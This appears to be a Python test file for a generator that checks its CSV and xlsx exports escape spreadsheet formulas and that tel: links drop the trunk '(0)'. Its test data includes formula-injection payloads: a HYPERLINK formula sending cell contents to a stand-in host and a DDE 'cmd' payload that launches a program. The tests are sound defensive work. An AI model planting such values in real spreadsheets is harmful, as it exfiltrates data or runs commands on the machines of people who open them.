"""Formula-safe tables and one tel: rule (issue 12, point 8).

Every CSV the generator writes (angebote.csv, print/manifest.csv) quotes a cell that a
spreadsheet would run; the xlsx for partners keeps such a value as text. Site, handouts and
partner Markdown build tel: links with one function, without the trunk "(0)"."""

import csv
import datetime as dt
import io
import re
import shutil
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from generator.render.exports.tables import offers_csv
from generator.render.handouts.document import PrintSettings
from generator.render.handouts.manifest import ManifestEntry, write_manifest
from generator.render.handouts.print_profile import FOGRA39
from generator.render.handouts.text import safe_markdown
from generator.render.handouts.views import contact_view
from generator.render.site.fragments import environment
from generator.render.site.markdown_subset import render_description
from generator.render.spreadsheet.export import write_workbook
from generator.render.tel import tel_href
from generator.validate.check import check_data_root

REPO = Path(__file__).parent.parent
MINI = REPO / "tests" / "fixtures" / "mini"
TODAY = dt.date(2026, 11, 24)
HOSTILE = '=HYPERLINK("https://boese.example.org/?d="&A1;"Klick")'
FORMULAS = [HOSTILE, "+SUM(1;2)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\tTAB", "\rCR"]


@pytest.fixture(scope="module")
def hostile_data(tmp_path_factory):
    root = tmp_path_factory.mktemp("cells") / "root"
    shutil.copytree(MINI, root)
    offer = root / "offers" / "traeger-b" / "elterninfo.yaml"
    text = offer.read_text(encoding="utf-8")
    offer.write_text(text.replace("title: Infoabend für Eltern", f"title: '{HOSTILE}'"),
                     encoding="utf-8")
    result = check_data_root(root, TODAY)
    assert result.ok, result.findings.errors
    return result.dataset


@pytest.mark.parametrize("value", FORMULAS)
def test_manifest_csv_quotes_formulas(tmp_path, value):
    entry = ManifestEntry("angebot-x.pdf", value, 1, "A4", "Druck", "0" * 64)
    write_manifest(tmp_path, [entry], PrintSettings(), FOGRA39, "k@example.org")
    with (tmp_path / "manifest.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert rows[0]["title"] == "'" + value
    assert rows[0]["file"] == "angebot-x.pdf" and rows[0]["pages"] == "1"


def test_open_data_csv_quotes_a_hostile_title(hostile_data):
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(offers_csv(hostile_data),
                                                           newline=""))}
    assert rows["elterninfo"]["titel"] == "'" + HOSTILE


def test_plain_numbers_and_phone_numbers_stay_as_they_are(tmp_path):
    entry = ManifestEntry("a.pdf", "+49 30 23125 100", 1, "A4", "Druck", "0" * 64)
    write_manifest(tmp_path, [entry], PrintSettings(), FOGRA39, "k@example.org")
    assert "+49 30 23125 100" in (tmp_path / "manifest.csv").read_text("utf-8").split("\n")[1]


def test_xlsx_keeps_a_formula_as_text(hostile_data, tmp_path):
    path = write_workbook(hostile_data, tmp_path / "angebote.xlsx", TODAY)
    with zipfile.ZipFile(path) as book:
        sheets = [book.read(n).decode() for n in book.namelist() if "worksheets/sheet" in n]
    assert not any("<f>" in s for s in sheets)  # no formula anywhere
    cells = [c for ws in load_workbook(path).worksheets for row in ws.iter_rows() for c in row
             if c.value == HOSTILE]
    assert cells and all(c.data_type == "s" for c in cells)  # exact value, as text


@pytest.mark.parametrize("phone, href", [
    ("+49 (0)30 123", "tel:+4930123"),
    ("+49 (0) 5271 965-0", "tel:+4952719650"),
    ("05271 965-0", "tel:+4952719650"),
    ("0049 30 123", "tel:+4930123"),
    ("+49 030 123", "tel:+4930123"),
    ("030/12345-67", "tel:+49301234567"),
    ("+43 (0)1 234 56", "tel:+43123456"),
    ("116 111", "tel:116111"),
])
def test_tel_links_are_global_numbers_without_trunk(phone, href):
    assert tel_href(phone) == href


def test_site_handouts_and_markdown_use_the_same_tel_rule(hostile_data):
    phone = "+49 (0)30 123"
    partner = hostile_data.partners["traeger-a"]
    contact = partner.contacts[0].model_copy(update={"phone": phone})
    assert contact_view("Kontakt", partner, contact).phone_link == "tel:+4930123"
    assert environment().filters["tel"](phone) == "tel:+4930123"
    markdown = "Ruf an: [030 123](tel:+49%20(0)30%20123)"
    assert 'href="tel:+4930123"' in render_description(markdown)
    assert 'href="tel:+4930123"' in safe_markdown(markdown)


def test_no_second_tel_builder_in_the_code():
    builders = [str(p.relative_to(REPO)) for p in (REPO / "generator").rglob("*.py")
                if re.search(r"[\"']tel:[\"']\s*\+", p.read_text(encoding="utf-8"))]
    assert builders == ["generator/render/tel.py"]
